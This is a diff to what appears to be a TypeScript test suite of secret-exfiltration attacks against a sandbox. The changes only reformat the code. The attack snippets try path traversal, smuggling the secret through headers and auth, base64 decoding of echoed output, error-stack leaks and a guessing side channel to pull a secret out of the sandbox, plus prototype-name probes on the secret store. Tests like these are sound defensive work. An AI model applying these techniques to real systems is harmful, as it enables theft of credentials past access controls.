@@ -101,7 +101,13 @@ export const SECRET_ATTACKS: readonly Attack[] = [
     await read(params.http + '/secret/echo?key=' + handle, {});
     await read(params.http + '/secret/' + handle + '/echo', {});
     await read(params.http + '/secret/echo', { headers: { authorization: 'Basic ' + basic } });
-    for (const text of [...keep]) if (typeof text === 'string') for (const part of text.match(/[A-Za-z0-9+/=_-]{16,}/g) ?? []) { try { keep.push(atob(part)); } catch {} }
+    for (const text of [...keep])
+      if (typeof text === 'string')
+        for (const part of text.match(/[A-Za-z0-9+/=_-]{16,}/g) ?? []) {
+          try {
+            keep.push(atob(part));
+          } catch {}
+        }
     console.log(keep); console.error(new Error(JSON.stringify(keep)));
     return keep;`,
   ),
@@ -116,8 +122,16 @@ export const SECRET_ATTACKS: readonly Attack[] = [
     await read(params.http + '/secret/../open/echo', { headers: { 'x-key': handle } });
     await read(params.http + '/secret/%2e%2e/open/echo', { headers: { 'x-key': handle } });
     await read(params.http + '/secretive/echo', { headers: { 'x-key': handle } });
-    await read(params.http + '/secret/echo', { method: 'POST', headers: { 'x-key': handle, 'content-type': 'text/plain' }, body: 'x' });
-    await read(params.http + '/open/echo', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ key: handle }) });
+    await read(params.http + '/secret/echo', {
+      method: 'POST',
+      headers: { 'x-key': handle, 'content-type': 'text/plain' },
+      body: 'x',
+    });
+    await read(params.http + '/open/echo', {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ key: handle }),
+    });
     await read(params.other + '/echo', { method: 'POST', body: new URLSearchParams({ key: handle }) });
     await read(params.other + '/echo', { headers: { authorization: 'Basic ' + btoa('user:' + handle) } });
     await read(params.other + '/echo', { headers: { [handle]: 'x' } });
@@ -136,8 +150,24 @@ export const SECRET_ATTACKS: readonly Attack[] = [
     await read('http://127.0.0.1:1/secret/' + handle, { headers: { 'x-key': handle } });
     await read(params.http + '/secret/' + handle + '/%', { headers: { 'x-key': handle + '\\u0100' } });
     await read(params.tcp + '/secret/' + handle, { headers: { 'x-key': handle } });
-    await read(params.http + '/secret/slow?key=' + handle, { headers: { 'x-key': handle }, signal: AbortSignal.timeout(50) });
-    for (const trick of [() => structuredClone(handle), () => { throw new Error(handle); }, () => handle.repeat(3), () => performance.getEntriesByType('resource').map((entry) => entry.name)]) { try { keep.push(trick()); } catch (error) { keep.push(error.stack); } }
+    await read(params.http + '/secret/slow?key=' + handle, {
+      headers: { 'x-key': handle },
+      signal: AbortSignal.timeout(50),
+    });
+    for (const trick of [
+      () => structuredClone(handle),
+      () => {
+        throw new Error(handle);
+      },
+      () => handle.repeat(3),
+      () => performance.getEntriesByType('resource').map((entry) => entry.name),
+    ]) {
+      try {
+        keep.push(trick());
+      } catch (error) {
+        keep.push(error.stack);
+      }
+    }
     throw new Error(JSON.stringify(keep));`,
     { ends: ['threw', 'denied'] },
   ),
@@ -156,7 +186,10 @@ export const SECRET_ATTACKS: readonly Attack[] = [
     const rounds = [guesses.slice(0, 1000), guesses.slice(1000)];
     const found = [];
     for (const round of rounds) {
-      const response = await fetch(params.http + '/secret/echo', { method: 'GET', headers: { 'x-key': handle, 'x-guess': round.join(' ') } });
+      const response = await fetch(params.http + '/secret/echo', {
+        method: 'GET',
+        headers: { 'x-key': handle, 'x-guess': round.join(' ') },
+      });
       const said = await response.text();
       for (const guess of round) if (!said.includes(guess)) found.push(guess);
     }
@@ -168,9 +201,15 @@ export const SECRET_ATTACKS: readonly Attack[] = [
     name: 'a secret that was not granted',
     group: 'secrets',
     code: `
-      for (const name of [${JSON.stringify(SECRET_NAME)}, '__proto__', 'constructor', '*', '']) lab.attempt(name, () => context.secrets.get(name));
+      for (const name of [${JSON.stringify(SECRET_NAME)}, '__proto__', 'constructor', '*', ''])
+        lab.attempt(name, () => context.secrets.get(name));
       lab.attempt('names', () => context.secrets.names());
-      lab.attempt('guess', async () => (await fetch(params.http + '/secret/x', { headers: { 'x-key': 'toolyard-secret-' + '0'.repeat(32) } })).status === 0 && 'x');`,
+      lab.attempt(
+        'guess',
+        async () =>
+          (await fetch(params.http + '/secret/x', { headers: { 'x-key': 'toolyard-secret-' + '0'.repeat(32) } }))
+            .status === 0 && 'x',
+      );`,
     grant: ({ http }) => ({ network: [{ origin: http, methods: ['GET'], pathPrefix: '/' }] }),
     allows: () => true,
     ends: ['denied'],
